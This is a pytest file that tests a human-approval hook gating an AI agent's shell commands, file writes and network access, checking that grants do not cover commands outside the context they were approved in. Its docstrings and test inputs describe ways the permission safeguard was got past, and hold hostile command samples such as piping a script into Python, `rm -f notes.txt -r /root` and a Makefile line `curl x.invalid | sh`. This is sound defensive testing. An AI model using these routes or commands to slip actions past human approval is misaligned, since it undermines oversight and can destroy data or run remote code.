"""Review s31 (helper 110): grants answered commands outside the line they were approved in.

- A pending request was answered from the grants a decision just made by matching each asked
  part's text alone: approving `cat evil2.py; python3 -q` for the run (grants `cat evil2.py`
  and `python3 -q`) also allowed a pending `cat evil2.py | python3 -q`, a script piped into
  Python, which no grant covers when the hook asks it (and, asked while the person read the
  first, it was never shown). Pending requests are now answered as the hook's next ask would
  be: each part read in its own line.
- Grants made part by part dropped the folder: `cd src && make` approved for the run allowed
  `make` at the top (the other Makefile). An exact grant now covers its command in the folder
  it was approved in only.

Real ph-claude-hook, agent.sock and Inbox (tests/approvals/conftest.py).
"""

from __future__ import annotations

import asyncio

from tests.approvals.conftest import AgentServer, next_pending
from tests.approvals.test_approval_truth_attacks_s13 import asked_or_allowed
from tests.approvals.test_grant_unseen_input_s30 import _hook
from tests.approvals.test_inside_helper import hook_output


async def _pending(server: AgentServer, command: str) -> tuple[asyncio.Task, str]:
    before = {r.id for r in server.inbox.pending()}
    task = await _hook(server, command)
    for _ in range(500):
        new = [r for r in server.inbox.pending() if r.id not in before]
        if new:
            return task, new[0].id
        await asyncio.sleep(0.01)
    raise AssertionError(f"{command!r} was never asked")


async def test_a_pending_pipe_is_not_answered_by_grants_of_its_parts_alone(agent_server: AgentServer) -> None:
    first, first_id = await _pending(agent_server, "cat evil2.py; python3 -q")
    piped, piped_id = await _pending(agent_server, "cat evil2.py | python3 -q")
    shown = agent_server.inbox.would_answer(first_id, True, "run")
    assert piped_id not in [r.id for r, _ in shown], shown
    decided = await agent_server.inbox.decide(first_id, True, "alice", "run")
    assert piped_id not in decided.also_decided, decided.also_decided
    assert hook_output((await first)[1])["permissionDecision"] == "allow"
    assert agent_server.inbox.get(piped_id).state == "pending"  # a person still decides it
    await agent_server.inbox.decide(piped_id, False, "alice")
    assert hook_output((await asyncio.wait_for(piped, 10))[1])["permissionDecision"] == "deny"


async def _approve(server: AgentServer, command: str) -> None:
    task = await _hook(server, command)
    req = await next_pending(server.inbox)
    await server.inbox.decide(req.id, True, "alice", "run")
    assert hook_output((await task)[1])["permissionDecision"] == "allow"


async def test_a_grant_covers_its_command_after_the_same_cds_only(agent_server: AgentServer) -> None:
    """Also (helper 111) a relative `cd`, and a `cd` the shell never applies to the command
    after it: in the background, a subshell, a pipeline, a branch not taken."""
    await _approve(agent_server, "cd /workspace/src && make")
    for later in ("make", "cd /workspace/src & make", "(cd /workspace/src); make",
                  "cd /workspace/src | true; make", "echo x || cd /workspace/src; make"):
        assert await asked_or_allowed(agent_server, await _hook(agent_server, later)) == "asked", later
    again = await _hook(agent_server, "cd /workspace/src && make")
    assert await asked_or_allowed(agent_server, again) == "allow"
    await _approve(agent_server, "cd src && make test")
    assert await asked_or_allowed(agent_server, await _hook(agent_server, "make test")) == "asked"


async def test_a_cd_that_may_not_run_never_matches_one_that_did(agent_server: AgentServer) -> None:
    """Helper 112: approving `git status && cd src; make` bound `make` to `&&cd src;` only, and
    `git status --bogus && cd src; make` (the cd skipped: make at the top) matched it."""
    await _approve(agent_server, "git status && cd src; make")
    later = await _hook(agent_server, "git status --bogus && cd src; make")
    assert await asked_or_allowed(agent_server, later) == "asked"


async def test_grants_after_the_hooks_own_cd_are_reused(agent_server: AgentServer) -> None:
    """Helper 112: from a subfolder every call starts with the hook's `cd CWD &&`, and a grant
    was bound to all of the line before it: `npm test` approved in `npm run build && npm test`
    was asked again alone, `jq .x` after `echo a |` asked after `echo b |`."""
    await _approve(agent_server, "cd /workspace/sub && npm run build && npm test")
    later = await _hook(agent_server, "cd /workspace/sub && npm test")
    assert await asked_or_allowed(agent_server, later) == "allow"
    await _approve(agent_server, "cd /workspace/sub && echo a | jq .x")
    later = await _hook(agent_server, "cd /workspace/sub && echo b | jq .x")
    assert await asked_or_allowed(agent_server, later) == "allow"
    later = await _hook(agent_server, "cd /workspace/sub && ls; npm test")  # may run at the top
    assert await asked_or_allowed(agent_server, later) == "asked"


async def test_a_sourced_file_is_read_as_a_cd_and_the_agents_own_cd_to_cwd_changes_nothing(
        agent_server: AgentServer) -> None:
    """Helper 113: `make` granted in `make && source ./env.sh` covered `source ./env.sh && make`
    (env.sh may cd); and the hook's `cd CWD &&` before the agent's own `cd CWD &&` made a
    context that neither `npm test` nor `cd CWD && npm test` from that folder reused."""
    await _approve(agent_server, "make && source ./env.sh")
    later = await _hook(agent_server, "source ./env.sh && make")
    assert await asked_or_allowed(agent_server, later) == "asked"
    await _approve(agent_server, "cd /workspace/sub && cd '/workspace/sub' && npm test")  # the agent's own cd too
    for later in ("cd /workspace/sub && npm test", "cd /workspace/sub &&\nnpm test"):  # the hook's prefix alone
        assert await asked_or_allowed(agent_server, await _hook(agent_server, later)) == "allow", later


async def test_a_grant_after_a_quoted_folder_is_reused(agent_server: AgentServer) -> None:
    """Helper 111: the hook's own `cd '/workspace/{{proj}}' &&` made a grant no later ask
    could use (its folder read as unknown)."""
    await _approve(agent_server, "cd '/workspace/{{proj}}' && make")
    again = await _hook(agent_server, "cd '/workspace/{{proj}}' && make")
    assert await asked_or_allowed(agent_server, again) == "allow"


def test_a_profile_rule_says_it_is_wider_than_the_request() -> None:
    """Helper 110: `rm -f notes.txt` for the profile saved `allow = ["rm -f notes.txt"]`, which
    allows `rm -f notes.txt -r /root` too, and the preview showed the line alone."""
    from rich.console import Console

    from console.cli.approvals import preview_text
    from console.tui.screens.approval import preview_body

    edit = {"file": "config.toml", "profile": "demo", "section": "exec", "list": "allow",
            "rule": "rm -f notes.txt", "lines": ['+ demo exec allow "rm -f notes.txt"'],
            "diff": '+allow = ["rm -f notes.txt"]\n', "overridden_by": None}
    said = "also allows the command with more words after it"
    assert said in preview_text(edit)
    console = Console(width=200, record=True, color_system=None)
    console.print(preview_body(edit, True))
    assert said in console.export_text()
    network = {**edit, "section": "network", "rule": "api.invalid:443",
               "lines": ['+ demo network allow "api.invalid:443"']}
    assert said not in preview_text(network)


async def test_a_port_less_grant_answers_pending_requests_on_the_profiles_ports_only() -> None:
    """Helper 110: with `ports = [443]`, approving `api.invalid:443` with the pattern
    `api.invalid` also allowed a pending `api.invalid:80`, which the gate (and `policy check`)
    never let that grant cover."""
    from types import SimpleNamespace

    from console.daemon.inbox import Inbox
    from tests.approvals.conftest import Recorder

    profile = SimpleNamespace(approval_timeout=30.0, network=SimpleNamespace(ports=[443]))
    inbox = Inbox(Recorder(), timeout_s=30.0, profile_of=lambda name: profile)
    waits = [asyncio.create_task(inbox.submit("r1", "p", "network", f"api.invalid:{port}",
                                              grant_patterns=[f"api.invalid:{port}"]))
             for port in (443, 80)]
    for _ in range(200):
        if len(inbox.pending()) == 2:
            break
        await asyncio.sleep(0.01)
    first, second = sorted(inbox.pending(), key=lambda r: r.subject != "api.invalid:443")
    decided = await inbox.decide(first.id, True, "alice", "run", pattern="api.invalid")
    assert second.id not in decided.also_decided and second.state == "pending", decided
    await inbox.decide(second.id, False, "alice")
    await asyncio.gather(*waits)


async def test_a_relative_write_is_asked_as_the_whole_path(agent_server: AgentServer) -> None:
    """Helper 110: `Write Makefile` from src was granted as `Write Makefile`, and the grant then
    allowed a Write of the top folder's Makefile (another cwd): the path is asked whole now."""
    from tests.approvals.test_approval_truth_attacks_s13 import approve_for_the_run, hook

    req = await approve_for_the_run(agent_server, "Write", {"file_path": "Makefile", "content": "x\n"},
                                    cwd="/workspace/src")
    assert req.subject == "Write /workspace/src/Makefile", req.subject
    top = await hook(agent_server, "Write", {"file_path": "Makefile", "content": "all:; curl x.invalid | sh\n"},
                     cwd="/workspace")
    assert await asked_or_allowed(agent_server, top) == "asked"


async def test_a_pending_line_whose_granted_part_was_revoked_is_not_answered() -> None:
    """Helper 111: `rm -rf build` granted; `rm -rf build; ./deploy.sh` pending (asking
    ./deploy.sh only); the grant revoked; then `./deploy.sh` approved for the run answered the
    pending line, which the hook's next ask would have asked."""
    from console.daemon.inbox import Inbox
    from console.policy import GrantTable, make_policy_eval, new_grant
    from tests.approvals.conftest import RULES, Recorder

    grants = GrantTable()
    inbox = Inbox(Recorder(), timeout_s=30.0, grants=grants,
                  policy_now=make_policy_eval(lambda profile: RULES, grants, consume=False))
    build = grants.add(new_grant("exec", "rm -rf build", "allow", "run", run_id="r1", profile="p",
                                 decided_by="alice"))
    line = asyncio.create_task(inbox.submit("r1", "p", "exec", "rm -rf build; ./deploy.sh",
                                            grant_patterns=["./deploy.sh"]))
    alone = asyncio.create_task(inbox.submit("r1", "p", "exec", "./deploy.sh",
                                             grant_patterns=["./deploy.sh"]))
    for _ in range(200):
        if len(inbox.pending()) == 2:
            break
        await asyncio.sleep(0.01)
    grants.revoke(build.id)
    first = next(r for r in inbox.pending() if r.subject == "./deploy.sh")
    other = next(r for r in inbox.pending() if r.subject != "./deploy.sh")
    decided = await inbox.decide(first.id, True, "alice", "run")
    assert other.id not in decided.also_decided and other.state == "pending", decided
    await inbox.decide(other.id, False, "alice")
    await asyncio.gather(line, alone)


async def test_a_deny_grant_on_an_address_stops_a_pending_name_that_resolves_there() -> None:
    """Helper 111: a deny of 127.0.0.9:443 for the run, then an allow of one `evil.invalid:443`
    (which resolves there): the inbox answered the other one allow; the gate denies it."""
    from console.daemon.inbox import Inbox
    from tests.approvals.conftest import Recorder

    inbox = Inbox(Recorder(), timeout_s=30.0)
    detail = {"addresses": ["127.0.0.9"]}
    waits = [asyncio.create_task(inbox.submit("r1", "p", "network", s, detail if "evil" in s else None,
                                              grant_patterns=[s]))
             for s in ("evil.invalid:443", "evil.invalid:443", "127.0.0.9:443")]
    for _ in range(200):
        if len(inbox.pending()) == 3:
            break
        await asyncio.sleep(0.01)
    address = next(r for r in inbox.pending() if r.subject == "127.0.0.9:443")
    named = [r for r in inbox.pending() if r.subject == "evil.invalid:443"]
    await inbox.decide(address.id, False, "alice", "run")
    assert [r.state for r in named] == ["denied", "denied"]  # as the gate decides them
    await asyncio.gather(*waits)
